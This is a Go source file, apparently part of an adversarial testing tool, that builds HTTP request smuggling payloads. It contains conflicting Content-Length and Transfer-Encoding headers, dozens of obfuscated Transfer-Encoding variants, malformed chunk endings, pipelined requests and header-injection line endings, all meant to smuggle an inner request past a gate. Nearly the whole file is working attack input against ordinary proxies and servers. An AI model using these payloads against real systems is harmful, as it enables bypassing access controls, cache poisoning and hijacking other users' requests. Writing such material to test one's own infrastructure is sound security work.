package adversary

import "strconv"

// lengths say the length of a body in two ways, so that two parsers disagree where the next request begins.
func lengths(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		size := strconv.Itoa(len(inner))
		chunk := strconv.FormatInt(int64(len(inner)-len(ID)+len("att000000z")), 16) + "\r\n" + inner + "\r\n0\r\n\r\n"
		post := func(lines ...string) string {
			return "POST " + g.doorPath + " HTTP/1.1\r\nHost: " + g.doorHost + "\r\nX-Attempt: " + DOOR + "\r\n" + joined(lines) + "\r\n"
		}
		ended := "0\r\n\r\n" + inner
		return lingering(
			post("Content-Length: 5", "Transfer-Encoding: chunked")+ended,
			post("Transfer-Encoding: chunked", "Content-Length: 5")+ended,
			post("Content-Length: "+size, "Transfer-Encoding: chunked")+ended,
			post("Content-Length: 4", "Transfer-Encoding: chunked")+chunk,
			post("Transfer-Encoding: chunked", "Content-Length: 4")+chunk,
			post("Content-Length: 0", "Transfer-Encoding: chunked")+ended,
			post("Content-Length: 0", "Transfer-Encoding: identity")+inner,
			post("Content-Length: 0", "Content-Length: "+size)+inner,
			post("Content-Length: "+size, "Content-Length: 0")+inner,
			post("Content-Length: 0", "Content-Length: 0")+inner,
			post("Content-Length: 0, "+size)+inner,
			post("Content-Length: +0")+inner,
			post("Content-Length: -1")+inner,
			post("Content-Length: 0x0")+inner,
			post("Content-Length: 00")+inner,
			post("Content-Length: 0 ")+inner,
			post("Content-Length: 0;")+inner,
			post("Content-Length:")+inner,
			post("Content-Length : 0")+inner,
			post("Content_Length: 0")+inner,
			post("Content-Length: 18446744073709551616")+inner,
			post("X: y\r\nContent-Length: 0")+inner,
		)
	})
}

// codings write Transfer-Encoding so that one parser reads it and another does not.
func codings(gates []gate) []Attempt {
	forms := []string{
		"Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
		"Transfer-Encoding:\tchunked", "X: X\nTransfer-Encoding: chunked", "Transfer-Encoding\r\n: chunked", " Transfer-Encoding: chunked", "Transfer-Encoding: chunked, identity",
		"Transfer-Encoding: identity, chunked", "Transfer-Encoding: CHUNKED", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;q=1", "Transfer-Encoding:\x0bchunked",
		"Transfer-Encoding: chunked\x00", "transfer-encoding: Chunked", "Transfer_Encoding: chunked", "Transfer-Encoding: gzip, chunked", "TE: chunked", "Transfer-Encoding:chunked",
		"Transfer-Encoding:\r\n chunked", "Transfer-Encoding: chunked ",
	}
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		var texts []string
		for _, form := range forms {
			head := "POST " + g.doorPath + " HTTP/1.1\r\nHost: " + g.doorHost + "\r\nX-Attempt: " + DOOR + "\r\n" + form + "\r\n"
			texts = append(texts, head+"\r\n0\r\n\r\n"+inner, head+"Content-Length: 5\r\n\r\n0\r\n\r\n"+inner)
		}
		return lingering(texts...)
	})
}

// chunks end where only some parsers see an end.
func chunks(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		head := "POST " + g.doorPath + " HTTP/1.1\r\nHost: " + g.doorHost + "\r\nX-Attempt: " + DOOR + "\r\nTransfer-Encoding: chunked\r\n\r\n"
		return lingering(
			head+"0\r\n\r\n"+inner, head+"0\n\n"+inner, head+"0;a=b\r\n\r\n"+inner, head+"0;a=\"\r\n\"\r\n\r\n"+inner, head+"00000000000000000000\r\n\r\n"+inner, head+"0\r\nX: y\r\n\r\n"+inner,
			head+"-1\r\n\r\n"+inner, head+"0x0\r\n\r\n"+inner, head+"1\r\nZ\r\n0\r\n\r\n"+inner, head+"1\r\nZZ\r\n0\r\n\r\n"+inner, head+"1\nZ\n0\n\n"+inner, head+" 0\r\n\r\n"+inner, head+"0 \r\n\r\n"+inner,
			head+"\r\n0\r\n\r\n"+inner, head+"ffffffffffffffff0\r\n\r\n"+inner, head+"1;\n"+"Z\r\n0\r\n\r\n"+inner, head+"2\r\n\r\n\r\n0\r\n\r\n"+inner, head+"0\r\nHost: "+g.host+"\r\n\r\n"+inner,
			head+"0\r\nTransfer-Encoding: identity\r\nContent-Length: 0\r\n\r\n"+inner, head+"0\r\r\n\r\n"+inner,
		)
	})
}

// pipelines follow a request that is let through with one that is not, on one connection.
func pipelines(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		body := "POST " + g.doorPath + " HTTP/1.1\r\nHost: " + g.doorHost + "\r\nX-Attempt: " + DOOR + "\r\n"
		return lingering(
			g.doorHead()+inner, g.doorHead()+g.doorHead()+inner, g.doorHead("Connection: keep-alive")+inner, g.doorHead("Connection: close")+inner, g.doorHead()+"\r\n"+inner, g.doorHead()+"\n"+inner,
			g.doorHead("Expect: 100-continue")+inner, body+"Expect: 100-continue\r\nContent-Length: 2\r\n\r\nab"+inner, body+"Content-Length: 2\r\n\r\nab"+inner, body+"Content-Length: 0\r\n\r\n"+inner,
			"HEAD"+g.doorHead()[3:]+inner, "TRACE"+g.doorHead()[3:]+inner, "OPTIONS"+g.doorHead()[3:]+inner, g.doorHead("Connection: Host")+inner, g.doorHead("Content-Length: 0")+inner,
			g.doorHead("Keep-Alive: timeout=5")+repeat(g.doorHead(), 5)+inner, inner+g.doorHead(), g.doorHead()+inner+g.doorHead(),
		)
	})
}

// lines end or continue in ways that some parsers take for a new field, or for none.
func lines(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		start := "GET " + path + " HTTP/1.1"
		id, host := "X-Attempt: "+ID, "Host: "+g.host
		extra := joined(g.extra)
		return plain(
			start+"\n"+host+"\n"+id+"\n\n", start+"\r\n"+host+"\n"+id+"\r\n"+extra+"\r\n", start+"\r"+host+"\r"+id+"\r\r", start+"\r\n"+host+"\r\n "+"folded\r\n"+id+"\r\n\r\n",
			start+"\r\n"+id+"\r\n\tfolded\r\n"+host+"\r\n\r\n", start+"\r\n\r\n"+host+"\r\n"+id+"\r\n\r\n", "\r\n"+start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"\r\n", "\n\n"+start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"\r\n",
			start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"no colon\r\n\r\n", start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+": empty\r\n\r\n", start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"X Y: z\r\n\r\n",
			start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"X: a\rb\r\n\r\n", start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"X: a\x00b\r\n\r\n", start+"\r\n"+host+"\r\n"+id+"\r\n"+extra+"X:"+repeat(" ", 300)+"y\r\n\r\n",
			"GET  "+path+" HTTP/1.1\r\n"+host+"\r\n"+id+"\r\n"+extra+"\r\n", "GET\t"+path+"\tHTTP/1.1\r\n"+host+"\r\n"+id+"\r\n"+extra+"\r\n", start+" \r\n"+host+"\r\n"+id+"\r\n"+extra+"\r\n",
			start+"\r\n"+"HOST:"+g.host+"\r\n"+id+"\r\n"+extra+"\r\n", start+"\r\n"+"hOsT:\t"+g.host+"\t\r\n"+id+"\r\n"+extra+"\r\n",
		)
	})
}

// afterAnother hides the request in a header of one that is let through.
func afterAnother(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		inner := g.get(path)
		var texts []string
		for _, ending := range []string{"\r\n\r\n", "\n\n", "\r\r", "%0d%0a%0d%0a", "\\r\\n\\r\\n", "\u560d\u560a\u560d\u560a", "\r\n \r\n", "\x0b\x0b"} {
			texts = append(texts,
				g.doorHead("X: y"+ending+inner),
				"GET "+g.doorPath+"?x="+ending+inner+" HTTP/1.1\r\nHost: "+g.doorHost+"\r\n\r\n",
				"GET "+g.doorPath+" HTTP/1.1"+ending+inner,
				g.doorHead("Cookie: a=b;"+ending+inner))
		}
		return lingering(texts...)
	})
}
